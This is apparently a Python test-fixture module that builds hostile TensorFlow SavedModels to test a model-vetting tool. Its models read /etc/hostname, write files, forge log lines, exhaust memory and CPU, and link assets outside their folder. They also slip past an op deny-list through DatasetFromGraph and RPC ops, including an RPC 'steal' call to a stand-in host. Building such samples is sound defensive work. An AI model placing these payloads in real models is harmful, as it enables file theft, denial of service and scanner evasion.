"""SavedModels that do more than compute on their inputs, built as an attacker would:
``tf.Module`` signatures (``x`` float32 ``[None]`` → ``y``) that read or write files,
print, allocate without bound, read a vocabulary outside their assets, spin, or whose
folder links outside itself.

:data:`BUILDERS` maps a name to ``(builder, the op the vetting names)``; each builder
writes its SavedModel to the folder it is given and returns it. No training: each is a
few ops, saved once.
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import tensorflow as tf

__all__ = [
    "BUILDERS",
    "ESCAPES",
    "HUGE_ELEMENTS",
    "SPEC",
    "allocating",
    "asset_table",
    "dataset_reader",
    "dataset_writer",
    "greedy",
    "hard_linked",
    "plain",
    "printing_writer",
    "run_time_sized",
    "spinning",
    "symlinked",
]

SPEC = tf.TensorSpec([None], tf.float32, name="x")
#: 50 GiB of float32: the conditional allocation's size.
HUGE_ELEMENTS = 50 * 2**30 // 4


def _save(module: Any, folder: Path) -> Path:
    tf.saved_model.save(module, str(folder), signatures={"serving_default": module.serve})
    return folder


class _Plain(tf.Module):
    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        return {"y": x * 2.0}


class _ReadFile(tf.Module):
    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        text = tf.io.read_file("/etc/hostname")
        return {"y": x + 0.0 * tf.cast(tf.strings.length(text), tf.float32)}


class _WriteFile(tf.Module):
    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        with tf.control_dependencies([tf.io.write_file("/tmp/mooring-hostile.txt", "owned")]):
            return {"y": tf.identity(x)}


class _Print(tf.Module):
    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        with tf.control_dependencies([tf.print("INFO forged log line", x)]):
            return {"y": tf.identity(x)}


class _Huge(tf.Module):
    """50 GiB, but only for an input above 1000: the probe's zeros never take the branch."""

    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        extra = tf.cond(
            tf.reduce_max(x) > 1000.0,
            lambda: tf.reduce_sum(tf.zeros([HUGE_ELEMENTS])),
            lambda: tf.constant(0.0),
        )
        return {"y": x + extra}


class _ConstantFile(tf.lookup.TextFileInitializer):
    """Initializes its table from a file outside the model, named by a constant inside
    the function (its own file name goes unused)."""

    def __init__(self, outside: str, *args: Any) -> None:
        super().__init__(outside, *args)
        self.outside = outside

    def initialize(self, table: Any) -> Any:
        return tf.raw_ops.InitializeTableFromTextFileV2(
            table_handle=table.resource_handle,
            filename=tf.constant(self.outside),
            key_index=-2,
            value_index=-1,
        )


class _CapturedFile(_ConstantFile):
    """Initializes its table from a file outside the model, named by a string constant
    the function captures."""

    def initialize(self, table: Any) -> Any:
        captured = getattr(self, "captured", None)
        if captured is None:
            with tf.init_scope():
                captured = self.captured = tf.constant(self.outside)
        return tf.raw_ops.InitializeTableFromTextFileV2(
            table_handle=table.resource_handle, filename=captured, key_index=-2, value_index=-1
        )


class _Table(tf.Module):
    def __init__(self, initializer: Any) -> None:
        super().__init__()
        self.table = tf.lookup.StaticHashTable(initializer, -1)

    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        found = self.table.lookup(tf.strings.as_string(x, precision=0))
        return {"y": x + tf.cast(found, tf.float32)}


def _vocabulary(folder: Path) -> str:
    path = folder.parent / f"{folder.name}-vocab.txt"
    path.write_text("0\n1\n2\n")
    return str(path)


def _initializer(kind: Any, vocab: str) -> Any:
    whole, line = tf.lookup.TextFileIndex.WHOLE_LINE, tf.lookup.TextFileIndex.LINE_NUMBER
    return kind(vocab, tf.string, whole, tf.int64, line)


def constant_table(folder: Path) -> Path:
    """A lookup table whose initializer reads a file beside the folder, named by a
    constant."""
    return _save(_Table(_initializer(_ConstantFile, _vocabulary(folder))), folder)


def captured_table(folder: Path) -> Path:
    """A lookup table whose initializer reads a file beside the folder, named by a
    captured string constant."""
    return _save(_Table(_initializer(_CapturedFile, _vocabulary(folder))), folder)


def asset_table(folder: Path) -> Path:
    """A lookup table read from the model's own asset (``assets/``): allowed."""
    initializer = _initializer(tf.lookup.TextFileInitializer, _vocabulary(folder))
    return _save(_Table(initializer), folder)


BUILDERS: dict[str, tuple[Callable[[Path], Path], str]] = {
    "read_file": (lambda folder: _save(_ReadFile(), folder), "ReadFile"),
    "write_file": (lambda folder: _save(_WriteFile(), folder), "WriteFile"),
    "print": (lambda folder: _save(_Print(), folder), "PrintV2"),
    "huge_allocation": (lambda folder: _save(_Huge(), folder), "Fill"),
    "constant_vocabulary": (constant_table, "InitializeTableFromTextFileV2"),
    "captured_vocabulary": (captured_table, "InitializeTableFromTextFileV2"),
}


def _carried_graph(dataset: Any) -> bytes:
    """``dataset``'s graph, serialized as ``DatasetFromGraph`` takes it."""
    return bytes(tf.raw_ops.DatasetToGraphV2(input_dataset=dataset._variant_tensor).numpy())


class _CarriedDataset(tf.Module):
    """Serves the first element of a tf.data pipeline rebuilt from ``graph`` at run time
    (``DatasetFromGraph``): a string constant (which TensorFlow's optimizer folds, so it
    never runs), or, ``at_run_time``, joined with an empty string cut from the request,
    so that it runs."""

    def __init__(self, graph: bytes, *, at_run_time: bool = False) -> None:
        super().__init__()
        self.graph, self.at_run_time = graph, at_run_time

    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        if self.at_run_time:
            nothing = tf.strings.substr(tf.strings.as_string(x[0]), 0, 0)
            graph = tf.strings.join([tf.constant(self.graph), nothing])
        else:
            graph = tf.constant(self.graph)
        variant = tf.raw_ops.DatasetFromGraph(graph_def=graph)
        (first,) = tf.raw_ops.DatasetToSingleElement(
            dataset=variant, output_types=[tf.string], output_shapes=[[]]
        )
        return {"y": tf.identity(x), "text": tf.reshape(first, [1])}


def dataset_reader(
    folder: Path, *, outside: str = "/etc/hostname", at_run_time: bool = False
) -> Path:
    """Serves a line of ``outside`` read by a ``TextLineDataset`` carried as a graph
    (``at_run_time``: one that runs when called)."""
    graph = _carried_graph(tf.data.TextLineDataset(outside).take(1))
    return _save(_CarriedDataset(graph, at_run_time=at_run_time), folder)


def dataset_writer(
    folder: Path, *, target: str = "/tmp/mooring-hostile-cache", at_run_time: bool = False
) -> Path:
    """Writes ``Dataset.cache`` files at ``target`` (``target.index`` and a data file)
    when called, carried as a graph (``at_run_time``: one that runs when called)."""
    numbers = tf.data.Dataset.range(3).map(lambda i: tf.strings.as_string(i))
    whole = numbers.cache(target).batch(3).map(lambda batch: tf.strings.reduce_join(batch))
    graph = _carried_graph(whole)
    return _save(_CarriedDataset(graph, at_run_time=at_run_time), folder)


class _Listening(tf.Module):
    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops

        server = gen_rpc_ops.rpc_server(server_address="0.0.0.0:18555")
        with tf.control_dependencies([gen_rpc_ops.rpc_server_start(server)]):
            return {"y": tf.identity(x)}


class _Connecting(tf.Module):
    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops

        client, _ = gen_rpc_ops.rpc_client(
            server_address="203.0.113.7:18555", timeout_in_ms=1000, shared_name="c"
        )
        future, _ = gen_rpc_ops.rpc_call(client, "steal", [x], timeout_in_ms=1000)
        with tf.control_dependencies([gen_rpc_ops.rpc_check_status(future).error_code]):
            return {"y": tf.identity(x)}


class _Allocating(tf.Module):
    """``OneHot`` with depth 2³¹−1 and ``Tile`` to ``tile_gib`` GiB, both constants."""

    def __init__(self, tile_gib: int) -> None:
        super().__init__()
        self.multiples = tile_gib * 2**30 // (1024 * 4)

    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        wide = tf.one_hot(tf.constant([1]), 2**31 - 1)
        tiled = tf.tile(tf.ones([1024]), [self.multiples])
        return {"y": x + 0.0 * (tf.reduce_sum(wide) + tf.reduce_sum(tiled))}


def allocating(folder: Path, *, tile_gib: int = 2) -> Path:
    """8 GiB of ``OneHot`` and ``tile_gib`` GiB of ``Tile`` per call."""
    return _save(_Allocating(tile_gib), folder)


#: Models that reach out through ops not on a deny-list, as a hostile probe wrote them:
#: ``name → (builder, the op the vetting names)``. Called, the dataset models serve a
#: line of ``/etc/hostname`` and write ``/tmp/mooring-hostile-cache.*``.
ESCAPES: dict[str, tuple[Callable[[Path], Path], str]] = {
    "dataset_read": (lambda folder: dataset_reader(folder, at_run_time=True), "DatasetFromGraph"),
    "dataset_write": (lambda folder: dataset_writer(folder, at_run_time=True), "DatasetFromGraph"),
    "rpc_listen": (lambda folder: _save(_Listening(), folder), "RpcServerStart"),
    "rpc_connect": (lambda folder: _save(_Connecting(), folder), "RpcClient"),
}


def plain(folder: Path) -> Path:
    """``y = 2x``: nothing but arithmetic."""
    return _save(_Plain(), folder)


class _PrintingWriter(tf.Module):
    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        printed = tf.print("probe called", x)
        written = tf.io.write_file("written-by-the-model.txt", "here")
        with tf.control_dependencies([printed, written]):
            return {"y": tf.identity(x)}


def printing_writer(folder: Path) -> Path:
    """Prints, and writes ``written-by-the-model.txt`` into its working folder."""
    return _save(_PrintingWriter(), folder)


class _Spinning(tf.Module):
    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        count = tf.while_loop(lambda i: i < 10**12, lambda i: i + 1, [tf.constant(0, tf.int64)])
        return {"y": x + tf.cast(count[0] * 0, tf.float32)}


def spinning(folder: Path) -> Path:
    """Counts to 10¹² before it answers (hours)."""
    return _save(_Spinning(), folder)


class _Greedy(tf.Module):
    """Allocates 1 GiB per input row, a size no constant fixes."""

    @tf.function(input_signature=[SPEC])
    def serve(self, x: Any) -> dict[str, Any]:
        rows = tf.shape(x)[0]
        block = tf.ones(tf.expand_dims(rows * 2**28, 0))
        return {"y": x + tf.reduce_sum(block) * 0.0}


def greedy(folder: Path) -> Path:
    """3 GiB for the probe's 3 rows."""
    return _save(_Greedy(), folder)


class _RunTimeSized(tf.Module):
    """Allocations sized by the request: ``OneHot`` of depth ``max(depth)``, ``Tile`` of
    ``max(tiles)`` floats, and ``max(keep)`` entries kept in a hash table after the answer
    (about 55 bytes each)."""

    def __init__(self) -> None:
        super().__init__()
        self.kept = tf.lookup.experimental.MutableHashTable(tf.int64, tf.float32, 0.0)

    @tf.function(
        input_signature=[
            tf.TensorSpec([None], tf.int32, name="depth"),
            tf.TensorSpec([None], tf.int32, name="tiles"),
            tf.TensorSpec([None], tf.int32, name="keep"),
        ]
    )
    def serve(self, depth: Any, tiles: Any, keep: Any) -> dict[str, Any]:
        hot = tf.one_hot(tf.zeros([1], tf.int32), tf.reduce_max(depth))
        tiled = tf.tile(tf.ones([1]), tf.expand_dims(tf.reduce_max(tiles), 0))
        kept = tf.cast(tf.reduce_max(keep), tf.int64)
        stored = self.kept.insert(tf.range(kept), tf.zeros(tf.expand_dims(kept, 0)))
        total = tf.reduce_sum(hot) + tf.reduce_sum(tiled)
        with tf.control_dependencies([stored]):
            return {"y": tf.cast(depth, tf.float32) * 0.0 + total * 0.0}


def run_time_sized(folder: Path) -> Path:
    """A model whose allocations' sizes come from its inputs (``depth``, ``tiles``,
    ``keep``; int32 ``[None]``): ``{"depth": 2**31 - 1}`` asks for 8 GiB, ``{"tiles":
    2**29}`` for 2 GiB, and ``{"keep": n}`` keeps about ``55n`` bytes for good."""
    return _save(_RunTimeSized(), folder)


def symlinked(model: Path, folder: Path, outside: Path, *, directory: bool = False) -> Path:
    """A copy of ``model`` whose ``assets/leak`` links to ``outside`` (a file, or a folder)."""
    shutil.copytree(model, folder)
    (folder / "assets").mkdir(exist_ok=True)
    (folder / "assets" / "leak").symlink_to(outside, target_is_directory=directory)
    return folder


def hard_linked(model: Path, folder: Path, outside: Path) -> Path:
    """A copy of ``model`` whose ``assets/leak.txt`` is a hard link to ``outside``."""
    shutil.copytree(model, folder)
    (folder / "assets").mkdir(exist_ok=True)
    os.link(outside, folder / "assets" / "leak.txt")
    return folder
